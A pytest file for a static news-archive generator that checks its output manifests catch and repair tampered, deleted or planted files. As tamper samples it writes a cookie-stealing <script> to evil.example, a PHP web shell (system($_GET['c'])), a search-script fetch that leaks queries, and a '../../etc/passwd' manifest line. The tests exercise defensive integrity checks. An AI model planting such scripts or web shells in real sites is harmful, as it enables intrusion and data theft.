"""Fixity that can be trusted: what the manifests certify is what the build wrote or verified. A page
tampered with in the output (a ``<script>`` injected), deleted, or a file added there is repaired by the
next build, whichever way it commits (nothing changed, journal, swap), and never certified; ``verify``
reads a manifest with CR LF line ends; a file name that is not UTF-8 never stops a build; the content
manifest lists the saved originals of imported pages."""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import article, run_cli, snapshot, write_site
from hypothesis import given
from hypothesis import strategies as st

from newsarchive.build import BuildOptions, build
from newsarchive.output import fixity

CONFIG = """title: Archives du littoral
base_url: https://newsarchive.example/
"""

SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def _files() -> dict[str, str]:
    files = {
        "2018/03/2018-03-26-evacuation.md": article(
            "Évacuation du quartier du port", "2018-03-26T07:45:00+02:00", "Le Courrier du Littoral",
            language="fr", tags="[tempête, port]",
            body="Près de trois cents habitants ont passé la nuit au gymnase.\nLe maire a parlé à 6 h."),
        "2018/03/2018-03-25-souq.md": article(
            "افتتاح سوق السمك الجديد", "2018-03-25T18:45:00+03:00", "Al-Waha Daily", language="ar",
            tags="[الخليج]", body="افتتح السوق الجديد صباح اليوم.\nوحضر الافتتاح مئات."),
        "2019/01/2019-01-10-storm.md": article(
            "Storm batters the bay, \"again\"", "2019-01-10T09:00:00Z", "Harbour Gazette", language="en",
            body="Waves reached the sea wall. 🌊\nNobody was hurt."),
        "2019/01/2019-01-11-tokyo.md": article(
            "東京湾で高潮警報", "2019-01-11T03:00:00Z", "湾岸新聞", language="ja",
            body="高潮警報が出された。"),
    }
    for i in range(24):  # enough articles that a change to one is a small (journaled) rebuild
        day = 1 + i % 28
        files[f"2018/05/2018-05-{day:02d}-harbour-{i}.md"] = article(
            f"\"Harbour log {i}: ferries, tides & «quays»\"", f"2018-05-{day:02d}T{i % 24:02d}:00:00+01:00",
            ["Harbour Gazette", "Le Courrier du Littoral"][i % 2], tags=f"[log, t{i % 3}]",
            body=f"Ferry {i} left at dawn; the tide was {i % 7} m.")
    return files


@pytest.fixture
def site(tmp_path: Path) -> Path:
    return write_site(tmp_path / "site", _files(), CONFIG)


def _build(site: Path, **options):
    return build(site, BuildOptions(search=False, jobs=1, **options))


def _page(site: Path, slug: str) -> Path:
    (found,) = (site / "build").glob(f"*/*/*/{slug}/index.html")
    return found


def _tamper(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data.replace(b"</body>", SCRIPT + b"</body>"))


def _same_as_clean(site: Path, tmp_path: Path) -> None:
    """The output holds the bytes a clean build writes, and verify says so."""
    _build(site, output=tmp_path / "clean", clean=True)
    assert {rel: data for rel, (data, _) in snapshot(site / "build").items()} == \
        {rel: data for rel, (data, _) in snapshot(tmp_path / "clean").items()}
    proc = run_cli("verify", str(site / "build"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr


# ---- a tampered page is never carried forward, nor certified ----

@pytest.mark.parametrize("change", ["nothing", "one article", "many articles", "the config"])
def test_a_tampered_page_is_made_again_whatever_the_rebuild(site: Path, tmp_path: Path, change: str):
    _build(site)
    page = _page(site, "evacuation-du-quartier-du-port")
    _tamper(page)
    if change == "one article":  # a journaled rebuild
        (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
            "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
    elif change == "many articles":  # many pages change, not that one: a whole new output is staged, the
        for i in range(30):  # unchanged pages hard-linked from the old one
            (site / f"content/2019/06/2019-06-{1 + i % 28:02d}-wire-{i}.md").parent.mkdir(exist_ok=True)
            (site / f"content/2019/06/2019-06-{1 + i % 28:02d}-wire-{i}.md").write_text(article(
                f"Wire report {i}", f"2019-06-{1 + i % 28:02d}T10:00:00Z", "Agence Littorale", language="fr"))
    elif change == "the config":  # every page's key changes: a whole new output is staged and swapped in
        (site / "newsarchive.yaml").write_text(CONFIG.replace("Archives", "Les archives"))
    result = _build(site)
    assert SCRIPT not in page.read_bytes()
    assert result.mode == {"nothing": "journal", "one article": "journal"}.get(change, "swap")
    assert result.repaired == 1
    assert [p.message for p in result.problems if "evacuation" in p.path] == [
        "was changed after the last build wrote it; made again from the archive"]
    _same_as_clean(site, tmp_path)
    assert _build(site).mode == "nothing changed"  # repaired once, then trusted again


def test_a_tampered_page_whose_record_is_lost_is_not_carried_forward(site: Path, tmp_path: Path):
    _build(site)
    page = _page(site, "storm-batters-the-bay-again")
    _tamper(page)
    with sqlite3.connect(site / ".build.cache/catalog.sqlite") as db:  # nothing to check the output with
        db.execute("DELETE FROM meta WHERE name = ?", (fixity.RECORD,))
    (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
        "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
    _build(site)
    assert SCRIPT not in page.read_bytes()
    _same_as_clean(site, tmp_path)


def test_a_tampered_citation_link_is_made_again(site: Path, tmp_path: Path):
    """The RIS and CSL-JSON citations are ``data:`` links in the article page: a forged one is a tampered
    page, made again from the archive."""
    _build(site)
    (page,) = (site / "build").glob("2019/01/11/*/index.html")
    html = page.read_text(encoding="utf-8")
    start = html.index("data:application/x-research-info-systems;charset=utf-8,") + 56
    forged = html[:start] + quote("TY  - NEWS\r\nTI  - 偽のタイトル\r\nER  - \r\n", safe="") + \
        html[html.index('"', start):]
    page.write_text(forged, encoding="utf-8")
    result = _build(site)
    assert quote("偽", safe="") not in page.read_text(encoding="utf-8")
    assert result.repaired == 1
    _same_as_clean(site, tmp_path)


# ---- deleted, added and edited files are repaired by the next build ----

def test_the_command_line_says_what_it_repaired(site: Path, tmp_path: Path):
    assert run_cli("build", "site", "--no-search", cwd=tmp_path).returncode == 0
    out = site / "build"
    (deleted,) = out.glob("2018/03/25/*/index.html")  # the Arabic article's page
    deleted.unlink()
    (out / "promo.html").write_text("<a href='https://evil.example/'>Gagnez un iPhone</a>")
    (out / "static/style.css").write_text("body { background: url('https://evil.example/pwned') }")
    _tamper(_page(site, "harbour-log-3-ferries-tides-quays"))
    proc = run_cli("build", "site", "--no-search", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    shown = deleted.relative_to(tmp_path).as_posix()
    assert f"{shown}: warning: was deleted after the last build wrote it; made again from the archive; " \
        "a build makes its output from content/ and templates/ alone: change those, not the output" \
        in proc.stderr
    assert "site/build/promo.html: warning: was not written by newsarchive; removed" in proc.stderr
    assert "site/build/static/style.css: warning: was changed after the last build wrote it" in proc.stderr
    assert "harbour-log-3-ferries-tides-quays/index.html: warning: was changed after the last build" \
        in proc.stderr
    assert "4 repaired" in proc.stdout and "nothing changed" not in proc.stdout
    assert deleted.is_file() and not (out / "promo.html").exists()
    assert "pwned" not in (out / "static/style.css").read_text()
    proc = run_cli("build", "site", "--no-search", cwd=tmp_path)
    assert "nothing changed since the last build" in proc.stdout and "warning" not in proc.stderr
    _same_as_clean(site, tmp_path)


def test_many_repairs_are_told_with_a_count(site: Path, tmp_path: Path):
    _build(site)
    shutil.rmtree(site / "build/2018/05")
    result = _build(site)
    lines = [p.format() for p in result.problems]
    assert len(lines) == 6 and "more files were deleted after the last build wrote them" in lines[-1]
    _same_as_clean(site, tmp_path)


def test_a_journaled_rebuild_removes_a_file_it_did_not_write(site: Path, tmp_path: Path):
    _build(site)
    (site / "build/2019/01/backdoor.php").write_text("<?php system($_GET['c']); ?>")
    (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
        "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
    result = _build(site)
    assert result.mode == "journal" and result.deleted == 1
    assert not (site / "build/2019/01/backdoor.php").exists()
    _same_as_clean(site, tmp_path)


def test_a_file_planted_in_an_old_folder_with_its_times_set_back_is_found(site: Path, tmp_path: Path):
    """The check lists only the folders whose change time moved since the last build: planting a file
    moves it, and setting the folder's times back (``touch -r``) cannot set the change time back."""
    _build(site)
    (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
        "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
    _build(site)  # a rebuild: the record's folders partly from this build, partly from the first
    folder = site / "build/2018"
    times = folder.stat()
    (folder / "backdoor.php").write_text("<?php system($_GET['c']); ?>")
    (folder / "deep" / "er").mkdir(parents=True)
    (folder / "deep/er/page.html").write_text("<script>alert(1)</script>")
    os.utime(folder, ns=(times.st_atime_ns, times.st_mtime_ns))
    result = _build(site)
    assert result.mode != "nothing changed" and result.repaired == 2
    assert not (folder / "backdoor.php").exists() and not (folder / "deep/er/page.html").exists()
    _same_as_clean(site, tmp_path)


def test_a_rebuild_with_nothing_changed_stays_cheap(site: Path, monkeypatch):
    """The check reads no file: one stat per file of the output, against the record."""
    _build(site)
    hashed: list[str] = []
    real = fixity.sha256_file
    monkeypatch.setattr(fixity, "sha256_file", lambda path: hashed.append(path) or real(path))
    assert _build(site).mode == "nothing changed" and hashed == []
    _tamper(_page(site, "storm-batters-the-bay-again"))
    result = _build(site)
    assert result.mode == "journal" and result.written <= 3 and len(hashed) <= 1  # the content manifest's


# ---- verify reads what sha256sum -c reads ----

def test_verify_reads_a_manifest_with_crlf_line_ends(site: Path, tmp_path: Path):
    _build(site)
    manifest = site / "build/manifest-sha256.txt"
    manifest.write_bytes(manifest.read_bytes().replace(b"\n", b"\r\n"))
    proc = run_cli("verify", "site/build", cwd=tmp_path)
    assert proc.returncode == 0 and "every one matches the manifest" in proc.stdout, proc.stdout
    _tamper(_page(site, "storm-batters-the-bay-again"))
    proc = run_cli("verify", "site/build", cwd=tmp_path)
    assert proc.returncode == 1 and "1 changed, 0 missing, 0 extra" in proc.stdout


def test_a_manifest_line_as_sha256sum_writes_it():
    digest = "0123456789abcdef" * 4
    text = (f"{digest} *binary/mode.pdf\r\n"
            f"\\{digest}  weird\\\\name\\nwith a line break.txt\n"
            f"{digest}  plain/é.html\n")
    assert fixity.read_manifest(text) == {"binary/mode.pdf": digest,
                                          "weird\\name\nwith a line break.txt": digest,
                                          "plain/é.html": digest}
    for bad in (f"{digest}\tx", f"{digest} x", f"\\{digest}  a\\qb", f"{digest}  a/../../etc/passwd\r"):
        with pytest.raises(ValueError):
            fixity.read_manifest(bad)


# ---- a file name that is not UTF-8 ----

def test_a_file_name_that_is_not_utf8_never_stops_a_build(site: Path, tmp_path: Path):
    content = os.fsencode(site / "content/2019/01")
    with open(content + b"/2019-01-13-caf\xe9-du-port.md", "wb") as handle:  # written on a Latin-1 system
        handle.write(article("Le café du port rouvre", "2019-01-13T08:00:00Z", "Le Courrier du Littoral",
                             language="fr").encode("utf-8"))
    with open(content + b"/photo-\xff\xfe.jpg", "wb") as handle:
        handle.write(b"\xff\xd8\xff\xe0 not really a JPEG")
    for options in ((), ("--skip-invalid",)):
        proc = run_cli("build", "site", "--no-search", *options, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
        assert "Internal error" not in proc.stderr
        assert "site/content/2019/01/photo-\\xff\\xfe.jpg: warning: its name is not UTF-8 text; it is not " \
            "copied" in proc.stderr
    listed = (site / "build/content-sha256.txt").read_text(encoding="utf-8")
    assert "  content/2019/01/2019-01-13-caf%E9-du-port.md\n" in listed
    names = fixity.read_manifest(listed)
    assert names["content/2019/01/2019-01-13-caf\udce9-du-port.md"] == fixity.sha256_file(
        content + b"/2019-01-13-caf\xe9-du-port.md")
    assert "content/2019/01/photo-\udcff\udcfe.jpg" in names  # not published, but part of the archive
    assert run_cli("verify", "site/build", cwd=tmp_path).returncode == 0


@given(st.lists(st.text(st.characters(exclude_characters="/\x00", exclude_categories=("Cs",)), min_size=1)
                .map(lambda part: part.encode("utf-8") + b"\xff\x80%")  # bytes no UTF-8 name holds
                .map(lambda raw: raw.decode("utf-8", "surrogateescape")), min_size=1, max_size=3)
       .map("/".join))
def test_any_file_system_name_survives_the_manifest(rel):
    digest = "cd" * 32
    text = fixity.manifest_text({rel: digest})
    text.encode("utf-8")  # the manifest is UTF-8 whatever the names
    assert fixity.read_manifest(text) == {rel: digest}


_PARTS = (st.text(st.characters(exclude_characters="/\x00", exclude_categories=("Cs",)), min_size=1)
          .map(lambda part: part.encode("utf-8", "surrogateescape"))
          | st.binary(min_size=1, max_size=6).filter(lambda raw: b"/" not in raw and b"\x00" not in raw))
_NAMES = st.lists(_PARTS, min_size=1, max_size=3).map(
    lambda parts: b"/".join(parts).decode("utf-8", "surrogateescape"))
_DIGESTS = st.sampled_from(["ab" * 32, "cd" * 32, "0f" * 32])


@given(st.dictionaries(_NAMES, _DIGESTS, max_size=30), st.dictionaries(_NAMES, _DIGESTS, max_size=8),
       st.sets(_NAMES, max_size=8), st.data())
def test_a_rebuild_changes_the_last_manifest_line_by_line_as_a_whole_one_is_written(before, changes, gone,
                                                                                    data):
    """A journaled rebuild puts its changed lines into the last manifest (``_merged``) instead of writing
    every line again: the result is the manifest of the new record, byte for byte, whatever the names
    (newlines, %, bytes no UTF-8 name holds, any script) and wherever they sort."""
    gone |= set(data.draw(st.lists(st.sampled_from(sorted(before)), max_size=5))) if before else set()
    gone -= changes.keys()
    after = {rel: digest for rel, digest in {**before, **changes}.items() if rel not in gone}
    text = fixity.manifest_text(before).encode("utf-8")
    assert fixity._merged(text, changes, gone) == fixity.manifest_text(after).encode("utf-8")


def test_a_manifest_that_is_not_one_is_written_whole():
    assert fixity._merged(b"not a manifest\n", {"a": "ab" * 32}, set()) is None
    assert fixity._merged(b"ab" * 32 + b"  a", {"b": "ab" * 32}, set()) is None  # no line end: cut short


# ---- the content manifest lists the saved originals ----

def test_the_content_manifest_lists_the_saved_originals(site: Path, tmp_path: Path):
    originals = site / "content/2019/01/.originals"
    originals.mkdir()
    (originals / "2019-01-10-storm.html").write_text(
        "<html><body><h1>Storm batters the bay</h1><script>track()</script></body></html>", encoding="utf-8")
    (site / "content/2019/01/.DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    _build(site)
    listed = fixity.read_manifest((site / "build/content-sha256.txt").read_text(encoding="utf-8"))
    assert "content/2019/01/.originals/2019-01-10-storm.html" in listed
    assert "content/2019/01/.DS_Store" not in listed  # a hidden file the build skips
    assert not (site / "build/2019/01/.originals").exists()  # listed, not published
    if shutil.which("sha256sum"):
        proc = run_cli_sha256(site)
        assert proc.returncode == 0, proc.stdout + proc.stderr
    (originals / "2019-01-10-storm.html").write_text("<html>re-saved</html>", encoding="utf-8")
    assert _build(site).mode != "nothing changed"
    listed = fixity.read_manifest((site / "build/content-sha256.txt").read_text(encoding="utf-8"))
    assert listed["content/2019/01/.originals/2019-01-10-storm.html"] == fixity.sha256_file(
        str(originals / "2019-01-10-storm.html"))


def run_cli_sha256(site: Path) -> subprocess.CompletedProcess:
    return subprocess.run(["sha256sum", "--quiet", "-c", "build/content-sha256.txt"], cwd=site,
                          capture_output=True, text=True, check=False)


def test_a_tampered_search_index_is_made_again(site: Path, tmp_path: Path):
    build(site, BuildOptions(jobs=1))
    script = site / "build/pagefind/2018/pagefind.js"
    script.write_text("fetch('https://evil.example/?q=' + location.search);" + script.read_text())
    (site / "content/2019/01/2019-01-12-ferry.md").write_text(article(
        "Ferry service resumes", "2019-01-12T08:00:00Z", "Harbour Gazette", language="en"))
    result = build(site, BuildOptions(jobs=1))
    assert "evil.example" not in script.read_text()
    assert result.repaired == 1
    proc = run_cli("verify", "site/build", cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout
